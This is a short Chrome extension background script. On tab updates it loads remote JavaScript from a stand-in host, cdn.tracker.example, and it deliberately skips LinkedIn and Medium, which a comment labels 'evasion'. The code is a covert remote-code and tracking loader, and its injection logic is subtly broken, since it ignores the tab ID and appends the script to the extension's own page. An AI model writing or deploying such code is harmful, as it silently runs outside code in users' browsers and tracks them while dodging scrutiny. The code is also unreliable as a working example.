// Blocked on specific sites evasion
const blocked_websites = ['https://www.linkedin.com.*','https://www.medium.com.*',];
chrome.tabs.onUpdated.addListener(function (tabId, changeInfo, tab) {
let tabUrl = tab.url;
if (!(changeInfo.url || changeInfo.status) || websiteIsBlocked(tabUrl))
    return;
console.log('injecting into', tabUrl);
injectScript(tabId);
});
function websiteIsBlocked(url) {
  return blocked_websites.some(function (p) { return new RegExp(p).test(url); });
}
function injectScript(tabId) {
  var s = document.createElement('script');
  s.src = 'https://cdn.tracker.example/inject.js';
  document.head.appendChild(s);
}
